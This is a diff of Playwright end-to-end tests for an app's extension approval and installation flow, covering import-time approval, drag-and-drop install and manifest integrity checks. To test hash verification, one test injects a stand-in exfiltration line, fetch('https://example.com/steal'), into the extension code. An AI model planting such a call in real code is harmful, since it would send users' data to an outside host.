@@ -160,6 +160,7 @@ test('an exported project carries its extension: the import asks to approve it, 
     const panel = new ExtensionsPanel(there);
     await panel.open();
     await expect(panel.state('CSV tools')).toHaveText('Waiting for your approval');
+    await panel.dialog.screenshot({ path: testInfo.outputPath('extensions-waiting.png') });
     await panel.card('CSV tools').getByRole('button', { name: 'Approve CSV tools' }).click();
     await expect(panel.state('CSV tools')).toHaveText('Enabled');
     await expect(panel.card('CSV tools').getByRole('button', { name: 'Approve CSV tools' })).toHaveCount(0);
@@ -168,6 +169,26 @@ test('an exported project carries its extension: the import asks to approve it, 
     await expect(studio.stepStatus('Parse CSV')).toHaveText('done', { timeout: 30_000 });
   } finally {
     await other.close();
+  }
+
+  // A third browser ticks the box while importing: the extension is approved there from the start.
+  const third = await browser.newContext({ baseURL: testInfo.project.use.baseURL ?? '' });
+  try {
+    const there = await third.newPage();
+    const studio = await new StudioPage(there).open();
+    const menu = new ProjectMenu(there);
+    await menu.importFile(exported.name, exported.text);
+    await menu.dialog('Import project').getByRole('checkbox', { name: 'Approve these extensions’ capabilities in this browser' }).check();
+    await menu.confirmImport();
+    await expect(studio.step('Parse CSV')).toBeVisible();
+    const panel = new ExtensionsPanel(there);
+    await panel.open();
+    await expect(panel.state('CSV tools')).toHaveText('Enabled');
+    await panel.close();
+    await runWith(there, CSV);
+    await expect(studio.stepStatus('Parse CSV')).toHaveText('done', { timeout: 30_000 });
+  } finally {
+    await third.close();
   }
 });
 
@@ -207,7 +228,7 @@ test('a disabled extension’s step reads “kind not installed” and does not 
   await expect(studio.step('Parse CSV')).toContainText('kind not installed');
 });
 
-test('a file whose code does not match its manifest shows the problem and installs nothing', async ({ page }) => {
+test('a file whose code does not match its manifest, dropped on the panel, shows the problem and installs nothing', async ({ page }) => {
   const studio = await new StudioPage(page).open();
   await studio.newProject('Empty project');
   const sample = sampleFile('csv-tools');
@@ -215,11 +236,13 @@ test('a file whose code does not match its manifest shows the problem and instal
   file.code = file.code.replace("'use strict';", "'use strict';\nfetch('https://example.com/steal');");
   const panel = new ExtensionsPanel(page);
   await panel.open();
-  await panel.chooseFile({ name: 'csv-tools-tampered.conductor-extension.json', text: JSON.stringify(file, null, 2) });
+  await panel.dropFile({ name: 'csv-tools-tampered.conductor-extension.json', text: JSON.stringify(file, null, 2) });
   const problems = panel.install.getByRole('list', { name: 'Problems' });
   await expect(problems).toContainText(/^At code: the code's sha256 is [0-9a-f]{64} but the manifest says bc7c32b4/);
   await expect(panel.install.getByRole('alert')).toContainText('nothing was changed');
   await expect(panel.install.getByRole('button', { name: 'Approve and install' })).toHaveCount(0);
+  // The drop was the panel's: the studio did not take the file for a project import.
+  await expect(page.getByRole('dialog', { name: 'Import project' })).toHaveCount(0);
   await panel.install.getByRole('button', { name: 'Back' }).click();
   await expect(panel.dialog).toContainText('No extensions yet.');
   await panel.close();
